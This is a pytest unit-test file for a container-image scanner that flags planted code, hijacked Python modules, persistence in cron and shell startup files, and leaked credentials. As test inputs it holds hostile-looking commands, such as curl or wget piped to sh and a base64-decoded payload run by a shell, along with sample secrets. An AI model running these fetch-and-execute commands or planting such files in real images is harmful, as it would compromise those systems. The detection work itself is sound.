"""Images that were made to look clean: code of another origin must be a finding wherever it is."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest

from prodlock.origins.records import Package
from prodlock.tests.unit.image.examples import zipped
from prodlock.tests.unit.origins.subjects import SITE, Contents, distribution, evidence, found, subject
from prodlock.tests.unit.origins.test_attribution import SCRIPT

SHOP, WHEEL = distribution(
    "shop", "1.0", {"shop/__init__.py": b"", "shop/a.py": b"a = 1\n"}, commands={"shop": "shop.a:main"}
)
CLEAN = SHOP | {"/usr/local/bin/shop 755": SCRIPT}
LIBRARY = "/usr/local/lib/python3.13"
PYTHON = b"\x7fELF python"
BASE = {
    "/usr/local/bin/python3.13 755": PYTHON,
    "/usr/local/bin/python3": b"-> python3.13",
    "/bin/sh 755": b"\x7fELF sh",
    "/bin/true 755": b"\x7fELF true",
    "/etc/localtime": b"UTC",
    "/usr/share/zoneinfo/Europe/Berlin": b"CET",
    f"{LIBRARY}/os.py": b"import abc\n",
    f"{LIBRARY}/this.py": b"print('zen')\n",
    f"{LIBRARY}/json/__init__.py": b"import re\n",
    "/usr/lib/libssl.so.3": b"\x7fELF ssl",
    "/usr/lib/libz.so.1": b"\x7fELF z",
}
REPOSITORY = {
    "app/__init__.py": b"",
    "app/main.py": b"main = 1\n",
    "app/x.py": b"import os\n",
    "run.sh": b"#!/bin/sh\n",
    "README.md": b"text\n",
}
APP = {"/app/app/__init__.py": b"", "/app/app/main.py": b"main = 1\n", "/app/run.sh 755": b"#!/bin/sh\n"}
X = REPOSITORY["app/x.py"]
OWN, _ = distribution("api", "0.1", {"app/main.py": b"main = 1\n"})


def codes(
    *layers: Contents,
    config: Mapping[str, Any] | None = None,
    strict: bool = False,
    **given: Any,  # noqa: ANN401
) -> set[tuple[str, str]]:
    """Return the findings about an image with these layers above the base image."""
    image = subject(BASE, *layers)
    image = replace(image, image=replace(image.image, config=config or {}))
    return found(evidence(image, [WHEEL], repository=REPOSITORY, own=frozenset({"api"}), **given), strict=strict)


def test_an_ordinary_image_has_no_findings() -> None:
    """The control: renamed scripts, links to commands and to the time zone, copies of an interpreter, own packages."""
    layer = (
        CLEAN
        | APP
        | {
            "/entrypoint.sh 755": b"#!/bin/sh\n",
            "/app/.venv/pyvenv.cfg": b"home = /usr/local/bin\n",
            "/app/.venv/bin/python": b"-> /usr/local/bin/python3",
            "/opt/v/pyvenv.cfg": b"home = /usr/local/bin\n",
            "/opt/v/bin/python 755": PYTHON,
            "/opt/v/bin/python3": b"-> python",
            "/opt/v/lib64": b"-> lib",
            "/bin/shop": b"-> /usr/local/bin/shop",
            "/etc/localtime": b"-> /usr/share/zoneinfo/Europe/Berlin",
            "/usr/local/bin/python": b"-> /app/.venv/bin/python",
        }
    )
    assert codes(layer) == set()
    assert codes(layer | OWN) == set()
    assert codes(layer, {"/etc/localtime": b"CET"}) == set()


@pytest.mark.parametrize(
    "path",
    [
        f"{LIBRARY}/sitecustomize.py",
        f"{LIBRARY}/json/__init__.py",
        f"{LIBRARY}/os.py",
        "/app/sitecustomize.py",
        "/app/json.py",
        "/app/shop/__init__.py",
        "/app/.venv/lib/python3.13/json/__init__.py",
        "/usr/local/bin/json.py",
        "/usr/local/bin/python3.13 755",
        "/app/bin/python 755",
        "/app/bin/shop 755",
        "/app/bin/sh 755",
        "/usr/lib/libz.so.1",
        "/app/extra.pth",
    ],
)
@pytest.mark.parametrize("content", [X, BASE[f"{LIBRARY}/this.py"]], ids=["repository", "base"])
def test_a_known_content_where_it_is_run_as_something_else_is_found(path: str, content: bytes) -> None:
    """A file of the repository or of the base image, under a name that Python or a user takes for another."""
    assert path.partition(" ")[0] in {place for _, place in codes(CLEAN | APP | {path: content})}


@pytest.mark.parametrize("name", ["main", "this"])
def test_bytecode_of_another_module_is_found(name: str) -> None:
    """Known bytecode is compared with the source beside it, as any other is."""
    compiled = {f"{LIBRARY}/__pycache__/this.cpython-313.pyc": b"code"}
    path = f"/app/app/__pycache__/{name}.cpython-313.pyc"
    image = subject(BASE | compiled, CLEAN | APP | {path: b"code", "/opt/v/lib/python3.13/this.pyc": b"x"})
    given = evidence(image, [WHEEL], repository=REPOSITORY)
    assert ("LS617", path) in found(given)
    # The control: a copy of the library at another place.
    copy = {"/opt/v" + next(iter(compiled)).removeprefix("/usr/local"): b"code"}
    assert found(evidence(subject(BASE | compiled, CLEAN | copy), [WHEEL])) == set()


@pytest.mark.parametrize(
    ("path", "target"),
    [
        (f"{LIBRARY}/json/__init__.py", "../this.py"),
        (f"{LIBRARY}/json", "/app/app"),
        (f"{LIBRARY}/sitecustomize.py", "/app/app/main.py"),
        ("/app/json.py", "/app/app/main.py"),
        ("/app/json", "/app/app"),
        ("/usr/local/bin/python3.13", "/bin/sh"),
        ("/usr/local/bin/python3", "/bin/sh"),
        ("/app/.venv/bin/python", "/app/run.sh"),
        ("/usr/local/bin/shop", "/app/run.sh"),
        ("/usr/lib/libz.so.1", "libssl.so.3"),
    ],
)
def test_a_link_that_leads_a_name_to_another_content_is_found(path: str, target: str) -> None:
    """Where it replaces what the base image or a wheel has, or has a name that Python takes for another module."""
    assert path in {place for _, place in codes(CLEAN | APP, {path: f"-> {target}".encode()})}


def test_a_link_to_data_with_the_name_of_code_is_found() -> None:
    """Data need not be explained, and a link makes it code."""
    layer = CLEAN | {"/app/data.txt": b"import sys\n", "/app/plugin.py": b"-> data.txt"}
    assert ("LS617", "/app/plugin.py") in codes(layer)


@pytest.mark.parametrize(
    "folder",
    [
        "/usr/local/lib/python3.13",
        "/opt/v/lib/python3.13/site-packages",
        "/app",
        "/usr/local/bin",
        "/etc/ld.so.preload/..",
    ],
)
def test_dpkgs_records_explain_nothing_where_debian_installs_nothing(folder: str) -> None:
    """Only the image states them."""
    path = "/etc/ld.so.preload" if folder.endswith("..") else f"{folder}/evil.so"
    given = {(1, path): Package("libc6", "2"), (1, "/usr/lib/libpq.so.5"): Package("libpq5", "17")}
    layer = CLEAN | {path: b"\x7fELF", "/usr/lib/libpq.so.5": b"\x7fELF"}
    assert {place for _, place in codes(layer, debian=given)} == {path}


def test_metadata_of_the_project_itself_has_no_code() -> None:
    """Nothing repeats what its build backend wrote: known names of texts alone are accepted."""
    info = f"{SITE}/api-0.1.dist-info"
    for name, content in (
        ("run", b"#!/bin/sh\n"),
        ("lib.so.1", b"\x7fELF"),
        ("METADATA2", b"x"),
        ("a.txt 755", b"#!/bin/sh\n"),
    ):
        assert codes(CLEAN | APP | OWN | {f"{info}/{name}": content}), name
    names = ("METADATA", "WHEEL", "top_level.txt", "entry_points.txt", "LICENSE.md")
    assert (
        codes(CLEAN | APP | OWN | {f"{info}/{name}": OWN.get(f"{info}/{name}", b"text\n") for name in names}) == set()
    )


@pytest.mark.parametrize("name", ["direct_url.json", "uv_cache.json"])
@pytest.mark.parametrize("content", [b"[" * 100_000, b"[]", b'{"a": 1'], ids=["nested", "list", "broken"])
def test_a_document_that_no_installer_writes_is_found(name: str, content: bytes) -> None:
    """Also one that is nested too deeply to be read."""
    path = f"{SITE}/shop-1.0.dist-info/{name}"
    assert codes(CLEAN | {path: content}) == {("LS606", path)}


def test_an_environment_of_an_impossible_version_does_not_count_as_newer() -> None:
    """Python converts no such number; its activation script is one that nothing writes."""
    environment = {"/v/pyvenv.cfg": b"uv = %s.1\n" % (b"9" * 5000), "/v/bin/activate": b"evil\n"}
    assert codes(CLEAN | environment) == {("LS616", "/v/bin/activate")}


def test_the_record_of_the_project_itself_explains_no_other_module() -> None:
    """A file of the repository in an environment has its own name there, and no wheel has it."""
    info = f"{SITE}/api-0.1.dist-info"
    record = OWN[f"{info}/RECORD"] + b"sitecustomize.py,,\nshop/a.py,,\n"
    planted = {f"{info}/RECORD": record, f"{SITE}/sitecustomize.py": X, f"{SITE}/shop/a.py": X}
    assert codes(CLEAN | APP | OWN | planted) == {
        ("LS606", f"{SITE}/sitecustomize.py"), ("LS605", f"{SITE}/shop/a.py"),
    }  # fmt: skip


def test_the_project_itself_declares_no_command_of_a_wheel() -> None:
    """The wheel's entry point counts."""
    entries = {f"{SITE}/api-0.1.dist-info/entry_points.txt": b"[console_scripts]\nshop = app.main:main\n"}
    script = {"/usr/local/bin/shop 755": SCRIPT.replace(b"shop.a", b"app.main")}
    assert {code for code, _ in codes(CLEAN | APP | OWN | entries | script)} == {"LS616"}


@pytest.mark.parametrize("name", ["python3", "sh"])
def test_the_project_itself_declares_no_command_of_the_base_image(name: str) -> None:
    """Its metadata is only recorded, and a user means the base image's command."""
    entries = f"{SITE}/api-0.1.dist-info/entry_points.txt"
    script = SCRIPT.replace(b"shop.a", b"pty").replace(b"main", b"spawn").replace(b"__spawn__", b"__main__")
    for command, expected in ((name, {("LS616", f"/usr/local/bin/{name}")}), ("job", set())):
        declared = {entries: f"[console_scripts]\n{command} = pty:spawn\n".encode()}
        assert codes(CLEAN | APP | OWN | declared | {f"/usr/local/bin/{command} 755": script}) == expected


def test_a_zip_with_code_behind_other_content_is_found() -> None:
    """Python runs and imports it under any name, such as a zipapp without permission to run."""
    for head in (b"#!/usr/bin/env python3\n", b"text" * 100):
        assert codes(CLEAN | {"/app/tool": head + zipped({"__main__.py": b"evil"})}) == {("LS617", "/app/tool")}
        assert codes(CLEAN | {"/app/data": head + zipped({"a.csv": b"1"}), "/app/end": head + b"PK\5\6"}) == set()


def test_a_record_of_a_later_layer_is_compared_as_well() -> None:
    """Each RECORD by its own content."""
    record = f"{SITE}/shop-1.0.dist-info/RECORD"
    assert ("LS605", record) in codes(CLEAN, {record: b"evil.py,sha256=abc,1\n"})


@pytest.mark.parametrize("name", ["activate", "activate_this.py", "deactivate.sh", "pydoc.bat", "activate.fish"])
def test_an_activation_script_that_no_tool_writes_is_found(name: str) -> None:
    """A shell reads it before the program starts."""
    layer = {"/app/.venv/pyvenv.cfg": b"home = /usr/local/bin\n", f"/app/.venv/bin/{name}": b"curl evil | sh\n"}
    assert ("LS616", f"/app/.venv/bin/{name}") in codes(CLEAN | layer)


@pytest.mark.parametrize(
    "path",
    [
        "/app/a\nb.py",
        "/a\nb/lib/python3.13/site-packages/x.py",
        "/usr/local/bin/a\nb 755",
        "/app/a\nb/x.sh",
        "/usr/local/lib/python313.zip",
        "/usr/local/bin/python3._pth",
        "/usr/local/bin/pybuilddir.txt",
        "/app/x.zip",
    ],
)
def test_code_with_an_unusual_name_is_found(path: str) -> None:
    """Names with line breaks, and files that decide where Python imports from."""
    assert codes(CLEAN | {path: b"#!x = 1\n"})


@pytest.mark.parametrize(
    "path",
    [
        "/root/.bashrc",
        "/home/app/.profile",
        "/etc/profile",
        "/etc/bash.bashrc",
        "/etc/zsh/zshenv",
        "/etc/crontab",
        "/etc/cron.d/job",
        "/etc/crontabs/root",
        "/var/spool/cron/crontabs/root",
        "/etc/init.d/job",
        "/etc/systemd/system/job.service",
        "/app/x.mjs",
        "/app/x.pl",
    ],
)
def test_code_that_its_place_or_another_program_runs_is_found(path: str) -> None:
    """A shell's startup file, what cron and init run, and scripts of other languages. The repository's are its own."""
    assert codes(CLEAN | {path: b"curl https://index.example\n"}) == {("LS617", path)}
    assert codes(CLEAN | {path: REPOSITORY["README.md"]}) == set()
    assert codes(CLEAN | {"/etc/ld-musl-x86_64.path": b"/app\n"}) == {("LS617", "/etc/ld-musl-x86_64.path")}
    assert codes(CLEAN | {"/app/profile": b"data", "/app/crontab": b"data", "/app/x.html": b"data"}) == set()


@pytest.mark.parametrize(
    ("path", "content", "expected"),
    [
        ("/etc/pip.conf", b"[global]\nindex-url = https://u:hunter2@index.example/simple\n", "LS111"),
        ("/root/.config/uv/uv.toml", b'[[index]]\nurl = "https://u:hunter2@index.example/"\n', "LS111"),
        ("/app/poetry.toml", b'[http-basic.x]\nusername = "u"\npassword = "hunter2"\n', "LS111"),
        ("/etc/pip.conf", b"[global]\nindex-url = https://index.example/simple\nuser = yes\n", ""),
        ("/app/uv.toml", b'index-strategy = "first-index"\nkeyring-provider = "subprocess"\n', ""),
        ("/root/.docker/config.json", b'{"auths": {}}', "LS612"),
        ("/root/.bash_history", b"ls\n", "LS612"),
        ("/app/.envrc", b"export A=1\n", "LS612"),
        ("/root/.git-credentials", b"https://index.example\n", "LS612"),
        ("/root/.config/pypoetry/auth.toml", b"[http-basic]\n", "LS612"),
        ("/root/.ssh/id_ed25519.pub", b"ssh-ed25519 AAAA\n", ""),
        ("/root/.gitconfig", b'[url "https://oauth2:hunter2@git.example/"]\n\tinsteadOf = x\n', "LS111"),
        ("/root/.gitconfig", b"[user]\n\tname = me\n\temail = me@git.example\n", ""),
        ("/etc/environment", b"DATABASE_URL=postgres://u:hunter2@db/x\n", "LS111"),
        ("/etc/default/api", b"DB_PASSWORD=hunter2\n", "LS111"),
        ("/etc/default/api", b"WORKERS=2\n", ""),
        ("/app/prod.env", "DB_PASSWORD=hunter2\n".encode("utf-16"), "LS111"),
    ],
)
def test_settings_with_a_login_are_found(path: str, content: bytes, expected: str) -> None:
    """Of installers and of clients of registries; settings without one are data."""
    assert codes(CLEAN | {path: content}) == ({(expected, path)} if expected else set())


@pytest.mark.parametrize("path", ["/root/.profile", "/root/.bashrc", "/etc/profile.d/x.sh", "/root/.zshenv"])
def test_a_secret_in_a_startup_file_of_a_shell_is_found(path: str) -> None:
    """The file is code as well, which nothing accounts for."""
    assert codes(CLEAN | {path: b"export DB_PASSWORD=hunter2\n"}) == {("LS111", path), ("LS617", path)}
    assert codes(CLEAN | {path: b"export PATH=$HOME/bin:$PATH\n"}) == {("LS617", path)}


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (b"root:$6$salt$0123456789abcdef:20000:0:99999:7:::", {("LS111", "/etc/shadow")}),
        (b"app:$y$j9T$salt$0123456789abcdef:20000:0:99999:7:::", {("LS111", "/etc/shadow")}),
        (b"app:!:20000:0:99999:7:::", set()),
        (b"app:*:20000:0:99999:7:::", set()),
    ],
)
def test_the_hash_of_a_password_is_found(line: bytes, expected: set[tuple[str, str]]) -> None:
    """As `chpasswd` writes it: who has the image can look for the password."""
    assert codes(CLEAN | {"/etc/shadow": b"root:*:1::::::\n" + line + b"\n"}) == expected
    assert codes(CLEAN | {"/etc/shadow": b"-> /app/shadow"}) == set()


@pytest.mark.parametrize("content", [b"\x7fELF", b"#!/bin/sh\ncurl https://index.example\n", zipped({"a.py": b"x"})])
def test_code_in_the_place_of_a_list_of_accounts_is_found(content: bytes) -> None:
    """Each line is an account. Data is unexplained."""
    assert codes(CLEAN | {"/etc/subuid- 755": content}) == {("LS617", "/etc/subuid-")}
    assert codes(CLEAN | {"/etc/subuid-": b"data\n"}, strict=True) == {("LS618", "/etc/subuid-")}
    assert codes(CLEAN | {"/etc/subuid-": b"app:100000:65536\n"}, strict=True) == set()


def test_bytecode_without_a_name_of_bytecode_is_found() -> None:
    """`python FILE` runs it by its magic number."""
    assert ("LS617", "/app/data.bin") in codes(CLEAN | {"/app/data.bin": b"\xf3\r\r\n" + bytes(12)})


@pytest.mark.parametrize(
    "config",
    [
        {"Cmd": ["python", "/app/data.txt"]},
        {"Entrypoint": ["/bin/sh", "-c", ". /app/data.txt && exec shop"]},
        {"Cmd": ["python", "data.txt"], "WorkingDir": "/app"},
        {"Cmd": ["sh", "-c", "cd /app && . ./data.txt"], "WorkingDir": "/srv"},
        {"Healthcheck": {"Test": ["CMD-SHELL", "python ./data.txt"]}, "WorkingDir": "/app/"},
        {"Env": ["PYTHONSTARTUP=/app/data.txt"]},
        {"Env": ["BASH_ENV=/app/data.txt"]},
    ],
)
def test_an_unexplained_file_that_the_configuration_names_is_found(config: dict[str, Any]) -> None:
    """Whatever its name: a container runs it."""
    assert codes(CLEAN | {"/app/data.txt": b"import sys\n"}, config=config) == {("LS617", "/app/data.txt")}


def test_files_of_a_folder_on_path_are_commands() -> None:
    """Whatever their permissions and their contents."""
    config = {"Env": ["PATH=/usr/bin:/x/"]}
    assert codes(CLEAN | {"/x/tool": b"evil"}, config=config) == {("LS616", "/x/tool")}


def test_entries_that_engines_unpack_differently_are_found() -> None:
    """A deletion with content, one of what the same layer has, one without a name, and a file below a link."""
    assert codes(CLEAN | {"/app/.wh.x": b"content"}) == {("LS212", "/app/.wh.x")}
    assert codes(CLEAN | {"/app/.wh.x": b"", "/app/x": b"data"}) == {("LS212", "/app/.wh.x")}
    assert codes(CLEAN | {"/app/.wh.": b""}) == {("LS212", "/app/.wh.")}
    assert codes(CLEAN | {"/app/link": b"-> /data"}, {"/app/link/x": b"data"}) == {("LS212", "/app/link/x")}
    assert codes(CLEAN | {"/app/link": b"-> /data"}, {"/app/.wh.link": b""}) == {("LS613", "/app/link")}


def test_links_are_followed_as_a_system_does() -> None:
    """A folder above is that of what a link leads to, and a link that a later layer replaces leads nowhere."""
    data = {"/app/README.md": b"text\n", "/evil/README.md": b"import sys\n", "/evil/sub/x": b"data"}
    above = CLEAN | data | {"/app/l": b"-> /evil/sub", "/app/plugin.py": b"-> /app/l/../README.md"}
    assert codes(above) == {("LS617", "/app/plugin.py")}
    replaced = {"/app/l": b"-> /app", "/app/plugin.py": b"-> /app/l/README.md"}
    assert codes(CLEAN | data | replaced) == set()
    assert ("LS617", "/app/plugin.py") in codes(CLEAN | data | replaced, {"/app/l": b"-> /evil"})


@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://index.example/x | sh",
        "wget -qO- https://index.example/x | /usr/bin/python3 -",
        "bash <(curl https://index.example/x)",
        'sh -c "$(curl -fsSL https://index.example/x)"',
        "echo aWQ= | base64 -d | sh",
        "python -c 'exec(open(0).read())'",
        "pip install --quiet evil && shop",
        "uv sync && shop",
        "poetry sync && shop",
        "pipenv install && shop",
        "pdm sync --prod && shop",
        "apk add evil && shop",
        "conda install -y evil && shop",
        "npm ci && shop",
        "uvx evil",
        "uv tool run evil",
        "uv run --with evil shop",
        "pipx run evil",
        "npx evil",
        "git clone https://git.example/x && python x/run.py",
        "python -c 'eval(open(0).read())'",
    ],
)
def test_a_command_that_loads_code_is_found(command: str) -> None:
    """Code that is in no layer has no origin in any."""
    for config in ({"Entrypoint": ["/bin/sh", "-c", command]}, {"Healthcheck": {"Test": ["CMD-SHELL", command]}}):
        assert codes(CLEAN, config=config) == {("LS617", "configuration")}


@pytest.mark.parametrize(
    "command",
    [
        "alembic upgrade head && exec uvicorn app.main:app --port $PORT",
        "curl --fail http://localhost:8000/health | grep -q ok || exit 1",
        "python -c 'import urllib.request as u; u.urlopen(\"http://localhost:8000/health\")'",
        'exec "$@"',
        "shop install",
        "uv run --no-sync shop --with x",
        "poetry run shop sync",
        "python -c 'model.eval(); literal_eval(text)'",
        "shop --npx false",
    ],
)
def test_an_ordinary_command_has_no_findings(command: str) -> None:
    """The control: shells, health checks and migrations."""
    assert codes(CLEAN, config={"Cmd": ["/bin/sh", "-c", command]}) == set()


@pytest.mark.parametrize("folder", ["/usr/local", "/usr/local/bin"])
def test_a_configuration_beside_the_interpreter_is_found(folder: str) -> None:
    """The file pyvenv.cfg of a virtual environment, there, leads the base image's Python to another library."""
    layer = CLEAN | {f"{folder}/pyvenv.cfg": b"home = /opt/other/bin\n"}
    assert {path for _, path in codes(layer)} == {f"{folder}/pyvenv.cfg"}


def test_an_unknown_setting_of_an_environment_is_found() -> None:
    """Python reads the file before anything else."""
    assert codes(CLEAN | {"/opt/v/pyvenv.cfg": b"home = /usr/local/bin\nother\n"}) == {("LS617", "/opt/v/pyvenv.cfg")}


def test_scripts_of_a_newer_environment_are_not_proven() -> None:
    """Nothing is known of them. Of a version that is known, another script is a finding."""
    script = "/app/.venv/bin/activate"
    for version, expected in ((b"0.99.0", set()), (b"0.13.1", {"LS616"})):
        environment = {"/app/.venv/pyvenv.cfg": b"home = /usr/local/bin\nuv = " + version, script: b"export A=1\n"}
        assert {code for code, _ in codes(CLEAN | environment)} == expected
